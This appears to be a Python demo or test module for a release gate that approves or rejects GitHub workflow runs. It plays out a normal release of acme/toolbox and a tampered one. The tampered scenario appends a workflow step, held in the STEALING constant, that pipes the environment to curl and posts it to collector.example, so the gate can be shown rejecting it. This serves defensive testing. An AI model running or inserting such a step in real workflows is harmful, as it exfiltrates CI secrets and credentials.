"""Two releases in the demo: one as it should be, and one from a tag whose workflow nobody reviewed."""

from collections.abc import Callable

from tests.demo.check_run_watcher import News, Watch
from tests.demo.demo_registries import Decided
from tests.demo.demo_scenarios import RELEASE, WORKFLOW, Story
from tests.fakes.github.scenario.scenario_repository import Repository
from tests.fakes.github.state.runs import Job, Run

TOOLBOX = "acme/toolbox"
PLACE = "release"  # the environment that it publishes from
RELEASED = Story(
    TOOLBOX, "was let go by the gate, and each link of its chain is there", "success", "accounted for", RELEASE
)
STEALING = "      - run: curl --data @- https://collector.example < <(env)\n"
STEPS = (
    "Run actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c",
    "Run pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e",
)
Tell = Callable[[News], None]


def release(watch: Watch, tell: Tell) -> None:
    """Sam releases acme/toolbox 1.4.0; Mona approves, the gate looks and lets it go, and its evidence is gathered."""
    toolbox = watch.repositories[TOOLBOX]
    run, job = _arrive(watch, toolbox, "v1.4.0", tell)
    watch.expect(RELEASED, run.head_sha, ", tag v1.4.0")
    watch.wharf.publish(run, TOOLBOX, "acme-toolbox", "1.4.0")
    toolbox.finish_job(run, job, steps=dict.fromkeys(STEPS, "success"))
    toolbox.finish_run(run)
    watch.until(lambda: not watch.missing() and _is_done(toolbox, run), tell)


def disguise(watch: Watch, tell: Tell) -> None:
    """Somebody with Sam's password tags a commit whose workflow was edited. Mona approves; the gate looks, and rejects it."""
    toolbox = watch.repositories[TOOLBOX]
    edited = toolbox.state.files(toolbox.head)[WORKFLOW].decode()
    sha = toolbox.push({WORKFLOW: edited + STEALING}, "Bump", branch="bump", by="sam")
    run, _ = _arrive(watch, toolbox, "v1.4.1", tell, sha)
    toolbox.finish_run(run)
    watch.until(lambda: True, tell)


def _arrive(watch: Watch, toolbox: Repository, tag: str, tell: Tell, sha: str | None = None) -> tuple[Run, Job]:
    """Tag, run, approve, and wait for the gate."""
    toolbox.tag(tag, sha, by="sam")
    run = toolbox.start_run(WORKFLOW, ref=tag, by="sam")
    job = toolbox.start_job(run, "publish", environment=PLACE)
    decided = Decided(TOOLBOX, tag, run.gates[PLACE], watch.github.app.id)
    watch.gates.append(decided)
    toolbox.approve(run, PLACE, by="mona")
    watch.until(lambda: decided.verdict is not None, tell)
    return run, job


def _is_done(toolbox: Repository, run: Run) -> bool:
    return any(each.conclusion == RELEASED.conclusion for each in toolbox.check_runs(run.head_sha, RELEASE))
